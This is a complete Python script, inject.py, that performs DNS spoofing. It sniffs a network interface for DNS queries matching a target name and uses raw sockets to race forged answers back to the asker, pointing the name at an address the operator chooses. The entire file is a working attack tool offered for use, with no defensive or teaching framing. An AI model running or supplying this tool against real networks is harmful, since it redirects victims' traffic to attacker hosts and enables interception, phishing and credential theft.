#!/usr/bin/python3
"""inject.py INTERFACE NAME ADDRESS: answers questions for NAME with ADDRESS, faster than whoever was asked.

Beside the path and not in it: it reads along and forges, and never holds anything back.
"""
import socket, struct, sys

interface, name, address = sys.argv[1:4]
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
tap.bind((interface, 0x0800))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
wanted = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
print("ready", flush=True)


def forge(question, end, kind):
    known = kind == 1  # A; there is no IPv6 here
    head = question[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, int(known), 0, 0)
    record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + socket.inet_aton(address)
    return head + question[12:end] + (record if known else b"")


while True:
    packet, where = tap.recvfrom(65535)
    if where[2] == socket.PACKET_OUTGOING or packet[9] != 17:
        continue
    start = (packet[0] & 15) * 4
    source, target = packet[12:16], packet[16:20]
    from_port, to_port = struct.unpack(">HH", packet[start:start + 4])
    question = packet[start + 8:]
    if to_port != 53 or question[12:12 + len(wanted)].lower() != wanted:
        continue
    end = 12 + len(wanted) + 4
    answer = forge(question, end, struct.unpack(">H", question[end - 4:end - 2])[0])
    datagram = struct.pack(">HHHH", 53, from_port, 8 + len(answer), 0) + answer
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0, target, source)
    raw.sendto(header + datagram, (socket.inet_ntoa(source), 0))
